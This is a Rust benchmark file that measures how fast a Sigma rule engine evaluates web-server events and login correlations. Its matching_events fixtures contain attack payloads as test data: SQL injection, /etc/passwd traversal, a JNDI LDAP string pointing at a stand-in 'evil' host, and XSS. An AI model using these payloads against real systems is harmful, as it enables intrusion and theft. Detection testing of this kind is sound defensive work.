//! Engine throughput (events per second on one core):
//! - `web_rules/*`: the 45 SigmaHQ web server and proxy rules on realistic benign OCSF events
//!   and on events that trip them (SQL injection, scanners, traversal, webshells…);
//! - `simple_rules/*`: ten plain field rules (method, path prefix, status) — the ≥ 1 M events/s
//!   target;
//! - `correlation/*`: event_count, value_count and temporal correlations over a stream of login
//!   events from rotating addresses and users;
//! - `bundled_rules/*`: the bundled rule pack (`rules/`) on benign traffic, from JSON events and
//!   from records read field by field (`support/direct_event.rs`) — the live detection cost.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support {
    pub mod direct_event;
}

use std::hint::black_box;
use std::path::Path;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use portcullis_sigma::{CorrelationLimits, Engine, FieldMapping, RuleSet};
use serde_json::{Value, json};

const RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/corpora/sigma/rules-web"
);

fn request(i: usize, method: &str, path: &str, query: &str, ua: &str, status: i64) -> Value {
    let url_string = if query.is_empty() {
        path.to_string()
    } else {
        format!("{path}?{query}")
    };
    json!({
        "time": 1767225600123_i64 + i as i64,
        "metadata": {"uid": format!("REQ-{i}")},
        "src_endpoint": {"ip": format!("203.0.113.{}", i % 250), "port": 51522},
        "http_request": {
            "http_method": method,
            "version": "HTTP/1.1",
            "user_agent": ua,
            "referrer": "https://app.example.com/",
            "length": 0,
            "url": {"scheme": "https", "hostname": "api.example.com", "path": path,
                    "query_string": query, "url_string": url_string},
            "http_headers": [{"name": "accept", "value": "application/json"},
                             {"name": "cookie", "value": "session=abc"}]
        },
        "http_response": {"code": status, "length": 512},
        "actor": {"user": {"uid": "alice", "name": "alice"}},
        "unmapped": {"route": "orders", "auth": {"method": "jwt"}}
    })
}

fn benign_events() -> Vec<Value> {
    let uas = [
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        "okhttp/4.12.0",
        "python-requests/2.32.3",
    ];
    (0..64)
        .map(|i| {
            let (method, path, query) = match i % 4 {
                0 => ("GET", format!("/v1/orders/{i}"), "expand=items".to_string()),
                1 => ("POST", "/v1/orders".to_string(), String::new()),
                2 => (
                    "GET",
                    "/v1/products".to_string(),
                    format!("page={i}&sort=price"),
                ),
                _ => ("DELETE", format!("/v1/carts/{i}"), String::new()),
            };
            request(i, method, &path, &query, uas[i % uas.len()], 200)
        })
        .collect()
}

fn matching_events() -> Vec<Value> {
    let firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    vec![
        request(
            0,
            "GET",
            "/search",
            "q=1%27%20UNION%20SELECT%20password%20FROM%20users",
            firefox,
            200,
        ),
        request(
            1,
            "GET",
            "/download",
            "file=../../../etc/passwd",
            firefox,
            200,
        ),
        request(2, "GET", "/", "", "sqlmap/1.8", 200),
        request(3, "GET", "/api", "x=${jndi:ldap://evil/a}", firefox, 200),
        request(4, "GET", "/repo/.git/config", "", firefox, 200),
        request(5, "GET", "/cmd.aspx", "", firefox, 200),
        request(
            6,
            "GET",
            "/x",
            "q=%3Cscript%3Ealert(1)%3C/script%3E",
            firefox,
            200,
        ),
        request(7, "GET", "/", "", "", 200),
    ]
}

fn web_engine() -> Engine {
    let (set, problems) = RuleSet::load_dir(Path::new(RULES)).unwrap();
    assert!(problems.is_empty());
    Engine::new(
        set,
        FieldMapping::web_to_ocsf(),
        CorrelationLimits::default(),
    )
}

fn bench_web(c: &mut Criterion) {
    let mut group = c.benchmark_group("web_rules");
    let mut engine = web_engine();
    let benign = benign_events();
    let matching = matching_events();
    let hits: usize = matching.iter().map(|e| engine.evaluate(e, 0).len()).sum();
    assert!(
        hits >= matching.len(),
        "matching events must match ({hits})"
    );
    assert!(benign.iter().all(|e| engine.evaluate(e, 0).is_empty()));
    group.throughput(Throughput::Elements(benign.len() as u64));
    group.bench_function("benign", |b| {
        b.iter(|| {
            for e in &benign {
                black_box(engine.evaluate(black_box(e), 0));
            }
        })
    });
    group.throughput(Throughput::Elements(matching.len() as u64));
    group.bench_function("matching", |b| {
        b.iter(|| {
            for e in &matching {
                black_box(engine.evaluate(black_box(e), 0));
            }
        })
    });
    group.finish();
}

fn bench_simple(c: &mut Criterion) {
    let mut yaml = String::new();
    let paths = [
        "/admin",
        "/debug",
        "/actuator",
        "/.env",
        "/.git",
        "/wp-admin",
        "/phpinfo",
        "/server-status",
        "/console",
        "/internal",
    ];
    for (i, p) in paths.iter().enumerate() {
        yaml.push_str(&format!(
            "title: Probe {i}\nid: simple-{i}\nlogsource:\n    category: webserver\ndetection:\n    sel:\n        cs-method: GET\n        cs-uri-stem|startswith: '{p}'\n        sc-status: 404\n    condition: sel\n---\n"
        ));
    }
    let mut set = RuleSet::new();
    set.add_yaml(&yaml, Path::new("simple.yml")).unwrap();
    let mut engine = Engine::new(
        set,
        FieldMapping::web_to_ocsf(),
        CorrelationLimits::default(),
    );
    let events = benign_events();
    let mut group = c.benchmark_group("simple_rules");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.bench_function("benign", |b| {
        b.iter(|| {
            for e in &events {
                black_box(engine.evaluate(black_box(e), 0));
            }
        })
    });
    group.finish();
}

fn bench_correlation(c: &mut Criterion) {
    let yaml = "\
title: Credential stuffing
id: corr-1
correlation:
    type: value_count
    rules: [failed_login]
    group-by: [c-ip]
    timespan: 5m
    condition:
        field: unmapped.auth.attempted_user
        gte: 20
---
title: Brute force
id: corr-2
correlation:
    type: event_count
    rules: [failed_login]
    group-by: [unmapped.auth.attempted_user]
    timespan: 5m
    condition:
        gte: 10
---
title: Failure then success
id: corr-3
correlation:
    type: temporal_ordered
    rules: [failed_login, success_login]
    group-by: [c-ip]
    timespan: 5m
---
title: Failed login
id: base-1
name: failed_login
logsource:
    category: webserver
detection:
    sel:
        sc-status: 401
    condition: sel
---
title: Successful login
id: base-2
name: success_login
logsource:
    category: webserver
detection:
    sel:
        cs-uri-stem: /login
        sc-status: 200
    condition: sel
";
    let mut set = RuleSet::new();
    set.add_yaml(yaml, Path::new("corr.yml")).unwrap();
    assert!(set.resolve().is_empty());
    let mut engine = Engine::new(
        set,
        FieldMapping::web_to_ocsf(),
        CorrelationLimits::default(),
    );
    let events: Vec<Value> = (0..1024)
        .map(|i| {
            json!({
                "metadata": {"uid": format!("REQ-{i}")},
                "src_endpoint": {"ip": format!("198.51.100.{}", i % 97)},
                "http_request": {"http_method": "POST", "url": {"path": "/login"}},
                "http_response": {"code": if i % 8 == 0 { 200 } else { 401 }},
                "unmapped": {"auth": {"attempted_user": format!("user{}", i % 301)}}
            })
        })
        .collect();
    let mut group = c.benchmark_group("correlation");
    group.throughput(Throughput::Elements(events.len() as u64));
    let mut clock = 0_i64;
    group.bench_function("login_stream", |b| {
        b.iter(|| {
            for e in &events {
                clock += 50;
                black_box(engine.evaluate(black_box(e), clock));
            }
        })
    });
    group.finish();
}

/// The bundled API-attack pack (`rules/`, correlations included) on the same benign events:
/// what live detection costs the gateway per request. `benign` reads JSON events; `direct*`
/// read gateway-shaped records field by field, as the gateway does.
fn bench_bundled(c: &mut Criterion) {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../rules");
    let (set, problems) = RuleSet::load_dir(Path::new(dir)).unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    let mut engine = Engine::new(
        set,
        FieldMapping::web_to_ocsf(),
        CorrelationLimits::default(),
    );
    let benign = benign_events();
    let mut group = c.benchmark_group("bundled_rules");
    group.throughput(Throughput::Elements(benign.len() as u64));
    let mut t = 0i64;
    group.bench_function("benign", |b| {
        b.iter(|| {
            for e in &benign {
                t += 1;
                black_box(engine.evaluate(black_box(e), t));
            }
        })
    });
    // The same traffic as records read field by field (as the gateway's `DetectionEvent`
    // does): the engine's own cost, without JSON path lookups. Authenticated requests feed two
    // correlations on every GET (value_sum of bytes per user, value_count of addresses per
    // credential); anonymous ones feed none.
    let authenticated = support::direct_event::benign_requests();
    let anonymous: Vec<_> = support::direct_event::benign_requests()
        .into_iter()
        .map(|mut r| {
            r.actor = None;
            r
        })
        .collect();
    for (name, requests) in [("direct", &authenticated), ("direct_anonymous", &anonymous)] {
        assert!(requests.iter().all(|r| engine.evaluate(r, t).is_empty()));
        group.throughput(Throughput::Elements(requests.len() as u64));
        group.bench_function(name, |b| {
            b.iter(|| {
                for r in requests {
                    t += 1;
                    black_box(engine.evaluate(black_box(r), t));
                }
            })
        });
    }
    group.finish();
}

criterion_group!(
    benches,
    bench_web,
    bench_simple,
    bench_correlation,
    bench_bundled
);
criterion_main!(benches);
